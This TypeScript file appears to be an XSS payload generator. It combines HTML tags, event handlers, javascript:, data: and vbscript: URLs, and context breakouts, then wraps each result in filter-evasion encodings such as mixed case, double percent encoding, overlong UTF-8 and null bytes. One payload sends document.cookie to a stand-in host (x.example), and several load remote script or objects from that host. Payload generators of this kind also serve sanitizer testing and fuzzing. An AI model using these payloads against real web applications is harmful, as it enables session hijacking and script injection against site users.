/** Attacks on pages, made of their parts. */
export interface XssAttack {
  readonly technique: string
  readonly disguise: string
  readonly text: string
}

const calls = [
  'alert(1)',
  'confirm`1`',
  'prompt(document.domain)',
  "eval('1')",
  "top['al'+'ert'](1)",
  'fetch("//x.example/?"+document.cookie)',
]
const tags = [
  'img',
  'svg',
  'body',
  'details',
  'video',
  'audio',
  'input',
  'marquee',
  'math',
  'a',
  'div',
  'x',
  'custom-tag',
  'iframe',
  'isindex',
  'style',
  'button',
]
const events = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationend',
  'onbegin',
  'onloadstart',
  'onscrollend',
]
const urlPlaces = [
  '<a href=?>x</a>',
  '<iframe src=?>',
  '<form action=?><input type=submit>',
  '<button formaction=?>',
  '<object data=?>',
  '<embed src=?>',
  '<svg><a xlink:href=?><text>x</text></a></svg>',
  '<math href=?>x</math>',
  '<area href=?>',
  '<table background=?>',
  '<svg><animate attributeName=href values=?>',
  '<base href=?>',
  '<meta http-equiv=refresh content="0;url=?">',
]
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'jav&#x0A;ascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
]
const breakouts = ['', '"', "'", '">', "'>", '-->', '</title>', '</textarea>', '</script>', '</style>', ']]>', 'x" ']
const elements = [
  '<script>?</script>',
  '<script src=//x.example></script>',
  '<svg><script>?</script></svg>',
  '<script/x>?</script>',
  '<SCRIPT\n>?</SCRIPT>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">?</x:script>',
  '<iframe srcdoc="<script>?</script>">',
  '<style>*{background:url(javascript:?)}</style>',
  '<div style="x:expression(?)">',
  '<link rel=stylesheet href=//x.example/a.css>',
  '<object data=//x.example>',
  '<embed src=//x.example>',
  '<!--[if IE]><script>?</script><![endif]-->',
  '<?xml-stylesheet href="javascript:?"?>',
  '<noscript><p title="</noscript><img src=x onerror=?>">',
  '<!--<img src="--><img src=x onerror=?//">',
]
const attributes = [
  '" onfocus=? autofocus x="',
  "' onmouseover=? x='",
  '" onload="?',
  ' onerror=?',
  '`onclick=?',
  '"autofocus/onfocus=?//',
  '" style="x:expression(?)" y="',
]
const scripts = ["';?//", '";?//', "'-?-'", '"-?-"', "\\';?//", "');?//", '"+?+"', "'}?;{'", '`;?//', "'*?*'"]

const disguises: readonly (readonly [name: string, change: (text: string) => string])[] = [
  ['plain', (text) => text],
  ['upper case of names', (text) => text.replaceAll(/<\/?[a-z]+|\bon[a-z]+=/g, (name) => name.toUpperCase())],
  ['slashes for spaces', (text) => text.replaceAll(/(?<=<[a-z]+) /g, '/')],
  ['percent encoding', encodeURIComponent],
  ['double percent encoding', (text) => encodeURIComponent(encodeURIComponent(text))],
  ['entities for brackets', (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')],
  ['escapes for brackets', (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e')],
  ['full width', (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e')],
  ['overlong UTF-8', (text) => text.replaceAll('<', '%c0%bc').replaceAll('>', '%c0%be')],
  ['null bytes', (text) => text.replaceAll('<', '<\0')],
]

/** Every technique in every disguise. */
export function* xssAttacks(): Generator<XssAttack> {
  for (const { technique, text } of plainAttacks()) {
    for (const [disguise, change] of disguises) {
      const changed = change(text)
      if (disguise === 'plain' || changed !== text) yield { technique, disguise, text: changed }
    }
  }
}

function* plainAttacks(): Generator<{ technique: string; text: string }> {
  for (const [index, tag] of tags.entries()) {
    for (const [other, event] of events.entries()) {
      const call = calls[(index + other) % calls.length] as string
      const quoted = call.includes('"') ? `'${call}'` : `"${call}"`
      const quotedOrNot =
        (index + other) % 2 === 0 && !/[\s'"`]/.test(call)
          ? call
          : call.includes("'") && call.includes('"')
            ? 'alert(1)'
            : quoted
      yield {
        technique: 'event',
        text: `${breakouts[(index * 3 + other) % breakouts.length]}<${tag} src=x ${event}=${quotedOrNot}>`,
      }
    }
  }
  for (const place of urlPlaces)
    for (const url of urls)
      yield {
        technique: 'url',
        text: place.replace('?', () =>
          place.includes('"') || (/[\s<>]/.test(url) && !/[\t\n]/.test(url))
            ? place.includes('"')
              ? url.replaceAll('"', '')
              : `"${url}"`
            : url.includes('\t') && !place.includes('"')
              ? `"${url}"`
              : url,
        ),
      }
  for (const element of elements)
    for (const breakout of breakouts) yield { technique: 'element', text: breakout + element.replace('?', 'alert(1)') }
  for (const attribute of attributes)
    for (const call of ['alert(1)', 'prompt`1`', 'eval(name)'])
      yield { technique: 'attribute', text: attribute.replace('?', () => call) }
  for (const script of scripts)
    for (const call of ['alert(1)', 'confirm`1`', 'eval(name)'])
      yield { technique: 'script', text: script.replace('?', () => call) }
  for (const url of urls.slice(0, 9)) yield { technique: 'plain url', text: url }
}
